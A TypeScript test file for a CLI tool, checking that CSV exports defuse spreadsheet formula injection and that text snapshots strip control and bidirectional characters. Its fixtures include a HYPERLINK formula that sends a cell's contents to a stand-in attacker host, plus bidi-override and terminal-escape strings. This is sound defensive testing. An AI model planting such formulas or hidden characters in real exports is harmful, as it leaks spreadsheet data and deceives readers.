// Site text in the files the CLI writes: no control or bidirectional character reaches the HTML,
// Markdown, text or CSV snapshot or the CSV export, and no CSV cell is a formula a spreadsheet
// runs (OWASP); JSON keeps the text exact. Entries stored with hostile titles, read back through
// the real CLI.
import { join } from 'node:path'
import { sql } from 'kysely'
import { describe, expect, it } from 'vitest'
import { closeDatabase, openDatabase } from '../../db/connection.ts'
import { migrateToLatest } from '../../db/migrate.ts'
import { seedListingHistory } from '../support/archive-seed.ts'
import { runCli, useWorkDir } from './support/cli.ts'

const workDir = useWorkDir('eurowatch-site-text-')

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-2', '@SUM(A1:A2)', '\tx', '\rx', ' =1+1']
const HIDDEN = 'Annual \u202Ereport\u202C \u2067x\u2069 bell\u0007 \u0085end \u001b[31mred\u001b[0m\u200f'
const UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/

/** One listing `archive` crawled once, its first entries titled as a hostile site would. */
async function seedHostileTitles(): Promise<void> {
  const db = await openDatabase({ kind: 'pglite', dataDir: join(workDir(), '.eurowatch/pglite') })
  try {
    await migrateToLatest(db)
    await seedListingHistory(db, { entries: 10, runs: 1 })
    for (const [index, title] of [...FORMULAS, HIDDEN].entries()) {
      await sql`update entry_version set title = ${title}, summary = ${index === FORMULAS.length ? HIDDEN : null} where entry_id = ${index + 1}`.execute(db)
    }
  } finally {
    await closeDatabase(db)
  }
}

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 1)
      else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') row.push(field), (field = '')
    else if (c === '\r' && text[i + 1] === '\n') rows.push([...row, field]), (row = []), (field = ''), (i += 1)
    else field += c
  }
  return rows
}

describe('site text in what the CLI writes', { timeout: 240_000 }, () => {
  it('CSV cells never start a formula, and no format but JSON keeps control or bidi characters', async () => {
    await seedHostileTitles()
    const cli = (args: string[]) => runCli(workDir(), args, {}, 180_000)

    const exported = await cli(['export', '--format', 'csv'])
    expect(exported.code, exported.stderr).toBe(0)
    const [header = [], ...rows] = parseCsv(exported.stdout)
    const title = header.indexOf('title')
    const byKey = new Map(rows.map((row) => [row[0], row]))
    const titleOf = (entry: number) => byKey.get(`WSPO-${String(entry).padStart(6, '0')}`)?.[title]
    expect(FORMULAS.map((_, index) => titleOf(index + 1))).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1", "'-2", "'@SUM(A1:A2)", "'\tx", "'\nx", "' =1+1"])
    expect(titleOf(FORMULAS.length + 1)).toBe('Annual report x bell end red')
    expect(titleOf(10)).toBe('Entry 10')
    // the numbers are ours: not quoted, not prefixed
    expect(byKey.get('WSPO-000001')?.slice(1, 3)).toEqual(['1', '1'])
    expect(exported.stdout).not.toMatch(UNSAFE)

    const snapshotCsv = await cli(['snapshot', 'archive', '--as-of', '2099-12-31', '--format', 'csv'])
    const [snapshotHeader = [], ...snapshotRows] = parseCsv(snapshotCsv.stdout)
    expect(snapshotRows.map((row) => row[snapshotHeader.indexOf('title')]).slice(0, FORMULAS.length)).toEqual(FORMULAS.map((_, index) => titleOf(index + 1)))

    for (const format of ['html', 'markdown', 'text', 'csv']) {
      const shown = await cli(['snapshot', 'archive', '--as-of', '2099-12-31', '--format', format])
      expect(shown.code, shown.stderr).toBe(0)
      expect(shown.stdout, format).not.toMatch(UNSAFE)
      expect(shown.stdout, format).toContain('Annual report x bell end red')
    }
    const json = JSON.parse((await cli(['snapshot', 'archive', '--as-of', '2099-12-31', '--format', 'json'])).stdout) as { entries: { title: string }[] }
    expect(json.entries.map((entry) => entry.title).slice(0, FORMULAS.length + 1)).toEqual([...FORMULAS, HIDDEN])
  })
})
